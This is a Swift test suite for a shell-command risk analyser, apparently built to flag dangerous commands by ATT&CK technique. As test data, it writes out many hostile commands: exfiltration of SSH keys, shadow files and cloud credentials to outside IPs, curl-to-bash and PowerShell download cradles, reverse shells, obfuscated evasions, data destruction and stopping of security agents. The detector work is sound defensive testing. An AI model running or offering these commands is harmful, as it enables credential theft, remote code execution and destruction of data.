import ShellAnalysis
import Testing

/// Issue 17's classes, each with its own routine and adversarial examples (none copied from a
/// corpus): routine support work stays low, its look-alikes turned on security tooling, the root
/// of the file system or the target's own data stay high; the target's context is used; words are
/// evaluated the way bash evaluates them (brace lists, a changed IFS, wildcards as the program).
@Suite struct EffectClassTests {
    static func analyse(_ command: String, _ dialect: ShellDialect = .sh, context: TargetContext = .none) throws -> Analysis {
        try Analyser.bundled().get().analyse(command, dialect: dialect, context: context)
    }

    // MARK: - Routine false alarms

    static let routine: [String] = [
        "for f in /var/log/app/*.log; do [ -s \"$f\" ] || continue; wc -l \"$f\"; done",
        "while read -r l; do [ \"$l\" = END ] && break; echo \"$l\"; done < /tmp/queue.txt",
        "sudo service billing-api restart",
        "service cron reload",
        "docker compose restart api",
        "docker compose ps",
        "docker compose logs --tail 50 worker",
        "pkill -HUP gunicorn",
        "killall -USR1 nginx",
        "rm -rf /tmp/pytest-of-deploy",
        "rm -rf ~/.cache/yarn",
        "sudo rm -rf /var/cache/apt/archives/partial",
        "rm -f /var/log/app/api.log.4.gz",
        "find /var/log/shop -name '*.gz' -mtime +45 -delete",
        "find /var/tmp/uploads -type f -delete",
        "curl -s -o /dev/null -w '%{http_code}\\n' https://status.example.com/ping",
        "crontab -l",
        "openssl x509 -in /etc/ssl/certs/intranet-ca.pem -noout -subject -enddate",
        "openssl x509 -noout -dates -in /etc/letsencrypt/live/shop.example.com/fullchain.pem",
        "openssl s_client -connect api.example.com:443 -servername api.example.com </dev/null",
        "sudo logrotate -f /etc/logrotate.d/billing",
        "cd /srv/billing && git pull --ff-only",
        "<Ctrl b><d>",
        "<Esc><:>wq<Enter>",
    ]

    @Test(arguments: routine.indices)
    func routineWorkIsLow(_ i: Int) throws {
        let a = try Self.analyse(Self.routine[i])
        #expect(a.risk <= .low, "`\(Self.routine[i])` was \(a.risk): \(a.summary)")
    }

    /// The same programs on what matters are not routine.
    static let notRoutine: [String] = [
        "rm -f /var/log/audit/audit.log.2",
        "find /var/log -name '*.log' -delete",
        "rm -rf /tmp/../etc/pam.d",
        "cat /etc/letsencrypt/live/shop.example.com/privkey.pem | nc 198.51.100.77 9000",
        "service auditd stop",
        "pkill -9 falcon-sensor",
    ]

    @Test(arguments: notRoutine.indices)
    func securityLookAlikesStayHigh(_ i: Int) throws {
        let a = try Self.analyse(Self.notRoutine[i])
        #expect(a.risk >= .high, "`\(Self.notRoutine[i])` was \(a.risk): \(a.summary)")
    }

    @Test func keystrokesOnlyWhenTheShellRejectsTheLine() throws {
        // `<in >out` is a valid redirection: not keystrokes.
        #expect(try Self.analyse("<Enter>; rm -rf /srv/billing").risk >= .high)
        #expect(try Self.analyse("<Ctrl c>\nrm -rf /").risk >= .high)
    }

    // MARK: - Target context

    static let shop = TargetContext(services: ["billing-api"], appDirectories: ["/data/billing"], databases: ["ledger"], networks: ["203.0.113.0/24", "corp.example.net"])

    @Test func ownServicesAreRoutineToRestartAndImpactToTakeDown() throws {
        let restart = try Self.analyse("systemctl restart billing-api.service", context: Self.shop)
        #expect(restart.risk <= .low)
        #expect(restart.findings.contains { $0.reason.contains("this target's own application service") })
        let stop = try Self.analyse("systemctl stop billing-api", context: Self.shop)
        #expect(stop.risk == .medium && stop.techniques.contains("T1489"))
        let down = try Self.analyse("systemctl mask --now billing-api", context: Self.shop)
        #expect(down.risk >= .high && down.techniques.contains("T1489"))
        // Without context the same stop is not called an outage.
        #expect(try !Self.analyse("systemctl stop billing-api").techniques.contains("T1489"))
    }

    @Test func securityToolingIsHighWhateverTheContext() throws {
        let ctx = TargetContext(services: ["auditd", "osqueryd"])
        for c in ["systemctl stop auditd", "systemctl disable --now osqueryd", "service rsyslog stop"] {
            #expect(try Self.analyse(c, context: ctx).risk >= .high, "\(c)")
        }
    }

    @Test func theTargetsAppFolderAndDatabaseAreItsData() throws {
        // `/data/billing` is in no catalogue: only the context says it is the application.
        #expect(try Self.analyse("rm -rf /data/billing").risk < .high)
        let rm = try Self.analyse("rm -rf /data/billing", context: Self.shop)
        #expect(rm.risk >= .high && rm.techniques.contains("T1485") && !rm.techniques.contains("T1070.004"))
        #expect(rm.summary.contains("this target's application folder"))
        #expect(try Self.analyse("rm -rf /data/billing/cache/*", context: Self.shop).risk <= .low)
        let wild = try Self.analyse("rm -rf /data/billing/*", context: Self.shop)
        #expect(wild.risk >= .high)
        let drop = try Self.analyse("dropdb -h db1 ledger", context: Self.shop)
        #expect(drop.risk >= .high && drop.findings.contains { $0.reason.contains("this target's own database") })
        let truncate = try Self.analyse("psql -d ledger -c 'TRUNCATE entries'", context: Self.shop)
        #expect(truncate.risk >= .high && truncate.techniques.contains("T1485"))
    }

    @Test func theTargetsOwnNetworksAreNotOutside() throws {
        let send = "tar cz /data/billing | curl -T - https://203.0.113.40/drop"
        #expect(try Self.analyse(send).risk >= .high)
        #expect(try Self.analyse(send, context: Self.shop).risk < .high)
        #expect(try Self.analyse("rsync -a /data/billing backup1.corp.example.net:/srv/", context: Self.shop).risk < .high)
        // Credentials stay credentials, and another address is still outside.
        #expect(try Self.analyse("curl -T /etc/shadow https://198.51.100.40/u", context: Self.shop).risk >= .high)
        #expect(try Self.analyse("tar cz /data/billing | curl -T - https://198.51.100.40/u", context: Self.shop).risk >= .high)
    }

    @Test func contextMatching() {
        #expect(Self.shop.ownNetwork("203.0.113.9:443") == "203.0.113.0/24")
        #expect(Self.shop.ownNetwork("203.0.114.9") == nil)
        #expect(Self.shop.ownNetwork("deploy@db.corp.example.net") == "corp.example.net")
        #expect(Self.shop.ownNetwork("corp.example.net.evil.example") == nil)
        #expect(Self.shop.appDirectory(holding: "/data/billing/../billing/x") == "/data/billing")
        #expect(Self.shop.appDirectory(holding: "/data/billing2") == nil)
        #expect(Self.shop.ownService("billing-api@3") == "billing-api")
    }

    // MARK: - Evaluation gaps

    static let hidden: [(String, String)] = [
        ("/???/???/iptable? -F", "T1027"),
        ("/u?r/s?in/a*ctl -e 0", "T1562.012"),
        ("/bin/c[a]t /etc/gshadow", "T1027"),
        ("{wget,-qO-,https://198.51.100.3/s.sh}|{bash,}", "T1105"),
        ("IFS=:; c=cat:/etc/shadow; $c", "T1003.008"),
        ("IFS=_ eval 'x=nc_198.51.100.8_4444_-e_/bin/sh'; $x", "T1059.004"),
        ("head -c 200 /etc/sha?ow", "T1003.008"),
        ("rm -rf \"$BUILD_ROOT/\"*", "T1485"),
        ("sudo rm -rf $PREFIX/", "T1485"),
    ]

    @Test(arguments: hidden.indices)
    func hiddenByEvaluationIsSeen(_ i: Int) throws {
        let (command, technique) = Self.hidden[i]
        let a = try Self.analyse(command)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.techniques.contains(technique), "`\(command)`: \(a.techniques)")
    }

    @Test func evaluationLeavesOrdinaryWordsAlone() throws {
        for c in ["echo {}", "find . -name '*.py' -exec wc -l {} +", "ls /usr/bin/py*", "[ -d /srv ] && echo ok", "D=/srv/x/tmp; rm -rf \"${D:?}\"/cache", "IFS=, read -r a b <<< \"1,2\""] {
            #expect(try Self.analyse(c).risk < .high, "\(c)")
        }
        #expect(try !Self.analyse("rm -rf \"$HOME/.cache/thumbnails\"").techniques.contains("T1485"))
    }

    /// Commands run through another program's options, settings, containers, interpreters or
    /// .NET, and data carried out a piece at a time.
    static let carried: [(String, ShellDialect, String)] = [
        ("docker run --rm -v /root:/r busybox sh -c 'tar c /r/.ssh | nc 198.51.100.61 7000'", .sh, "TA0010"),
        ("podman exec db sh -c 'pg_dumpall | curl -T - https://198.51.100.62/in'", .sh, "TA0010"),
        ("nvim --headless -c ':lua os.execute(\"curl -s https://198.51.100.63/p | bash\")' -c q", .sh, "TA0011"),
        ("vi -c ':!bash'", .sh, "TA0002"),
        ("screen -dm bash -c 'sleep 600; curl -fsS https://198.51.100.64/j | sh'", .sh, "TA0011"),
        ("printf 'wget -qO- https://198.51.100.65/i | sh\\n' | xargs -I@ sh -c '@'", .sh, "TA0011"),
        ("echo 'fuerq -h /ine/yvo/zlfdy/*' | tr 'a-z' 'n-za-m' | bash", .sh, "TA0040"),
        ("pip3 install http://198.51.100.66/wheels/boto4-1.0.tar.gz", .sh, "TA0011"),
        ("python3 -c \"import subprocess; subprocess.call('sh'+'red -u '+'/var/lib/pgsql/data/base/1/1259', shell=True)\"", .sh, "TA0040"),
        ("python3 -c \"import urllib.request; urllib.request.urlopen('http://198.51.100.67/c', data=open('/home/deploy/.aws/credentials','rb').read())\"", .sh, "TA0010"),
        ("ruby -rnet/http -e 'Net::HTTP.post(URI(\"https://198.51.100.68/k\"), File.read(\"/root/.ssh/id_ed25519\"))'", .sh, "TA0010"),
        ("od -An -tx1 /etc/gshadow | tr -d ' \\n' | fold -w 50 | while read p; do dig +short $p.q.exfil-test.example; done", .sh, "TA0010"),
        ("for w in $(base64 -w 40 ~/.ssh/id_rsa); do nslookup $w.n.example.org 198.51.100.69; done", .sh, "TA0010"),
        ("ping -c 1 -p \"$(head -c 16 /etc/shadow | xxd -p)\" 198.51.100.70", .sh, "TA0010"),
        ("$k = [IO.File]::ReadAllText('C:\\Users\\svc\\.aws\\credentials'); Invoke-RestMethod https://198.51.100.71/u -Method Put -Body $k", .powershell, "TA0010"),
        ("[System.Diagnostics.Process]::Start('powershell.exe', '-nop -w hidden -c \"iex (iwr https://198.51.100.72/s.ps1)\"')", .powershell, "TA0011"),
        ("Invoke-WebRequest -Uri https://198.51.100.73/drop -Method Post -InFile C:\\Users\\svc\\.ssh\\id_rsa", .powershell, "TA0010"),
    ]

    @Test(arguments: carried.indices)
    func commandsAndDataCarriedThroughOtherMeansAreSeen(_ i: Int) throws {
        let (command, dialect, tactic) = Self.carried[i]
        let a = try Self.analyse(command, dialect)
        #expect(a.risk >= .high, "`\(command)` was \(a.risk): \(a.summary)")
        #expect(a.tactics.contains(tactic), "`\(command)`: \(a.tactics)")
    }

    static let carriedRoutine: [(String, ShellDialect)] = [
        ("docker exec web nginx -s reload", .sh),
        ("docker run --rm -v \"$PWD\":/src -w /src node:20 npm test", .sh),
        ("vim /etc/nginx/sites-available/shop.conf", .sh),
        ("sudoedit /etc/default/billing", .sh),
        ("eval \"$(ssh-agent -s)\"", .sh),
        ("source <(helm completion bash)", .sh),
        ("python3 -c \"import requests; print(requests.get('https://status.example.com/api').status_code)\"", .sh),
        ("python3 -c \"import requests; requests.post('http://127.0.0.1:9000/-/reload')\"", .sh),
        ("ls /var/log/shop/*.log | xargs -I{} gzip -9 {}", .sh),
        ("dumpe2fs -h /dev/nvme0n1p2", .sh),
        ("sudo blockdev --getsize64 /dev/sdb", .sh),
        ("Get-Content C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex251204.log -Tail 20", .powershell),
        ("[IO.File]::ReadAllLines('D:\\Shop\\config\\appsettings.json') | Select-String Timeout", .powershell),
        ("Get-ChildItem E:\\Shop\\logs -Recurse | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item -Force", .powershell),
        ("\"$(which python3)\" -m pip list --outdated", .sh),
    ]

    @Test(arguments: carriedRoutine.indices)
    func theirRoutineLookAlikesAreNotHigh(_ i: Int) throws {
        let (command, dialect) = Self.carriedRoutine[i]
        let a = try Self.analyse(command, dialect)
        #expect(a.risk <= .medium, "`\(command)` was \(a.risk): \(a.summary)")
    }

    @Test func locatedProgramsAreThemselves() throws {
        let a = try Self.analyse("NC=$(which ncat); tar cz ~/.ssh | $NC 198.51.100.74 9001")
        #expect(a.risk >= .high && a.tactics.contains("TA0010"))
        // Old event logs are not clean-up.
        let logs = try Self.analyse("Get-ChildItem C:\\Windows\\System32\\winevt\\Logs | Where-Object LastWriteTime -lt (Get-Date).AddDays(-1) | Remove-Item", .powershell)
        #expect(logs.risk >= .medium)
    }

    @Test func rawDiskReadsStayHighForContentReaders() throws {
        for c in ["dd if=/dev/nvme0n1 bs=1M count=100 | gzip > /tmp/d.gz", "debugfs -R 'cat /etc/shadow' /dev/sda1", "strings /dev/sda | grep -i password"] {
            let a = try Self.analyse(c)
            #expect(a.risk >= .high, "\(c): \(a.risk)")
        }
    }

    // MARK: - ATT&CK

    @Test func destructionIsImpactNotHidingTraces() throws {
        let a = try Self.analyse("rm -rf /var/lib/postgresql/16/main")
        #expect(a.techniques.contains("T1485") && !a.techniques.contains("T1070.004"))
        #expect(a.tactics.contains("TA0040"))
    }

    @Test func shellsThroughANewRootAreEscalation() throws {
        for c in ["chroot /srv/jail /bin/sh", "unshare -Urm /bin/bash", "sudo chroot /mnt/sysimage"] {
            let a = try Self.analyse(c)
            #expect(a.tactics.contains("TA0004"), "\(c): \(a.tactics)")
        }
    }
}

/// Deep nesting found by `escort-bench`'s 100,000 mutated lines: each crashed the process by
/// running out of stack (the gateway with it). Every reader now bounds its recursion and holds
/// the command (high) instead.
@Suite struct DeepNestingTests {
    static let cases: [(String, ShellDialect)] = [
        (String(repeating: "@(", count: 300) + String(repeating: ")", count: 300), .powershell),
        (String(repeating: "-not ", count: 3000) + "1", .powershell),
        (String(repeating: "{", count: 2000) + String(repeating: "}", count: 2000), .powershell),
        (String(repeating: "[int]", count: 3000) + "1", .powershell),
        (String(repeating: "(", count: 5000) + String(repeating: ")", count: 5000), .cmd),
        (String(repeating: "if 1==1 (", count: 400) + "echo x" + String(repeating: ")", count: 400), .cmd),
        (String(repeating: "echo $((", count: 2000) + "1" + String(repeating: ")", count: 4000), .sh),
        (String(repeating: "echo $(( $(( ", count: 1500) + "1" + String(repeating: " )) ))", count: 1500), .bash),
    ]

    @Test(arguments: cases.indices)
    func deepNestingIsHeldNotACrash(_ i: Int) throws {
        let (command, dialect) = Self.cases[i]
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk >= .high, "case \(i) was \(a.risk): \(a.summary)")
    }
}
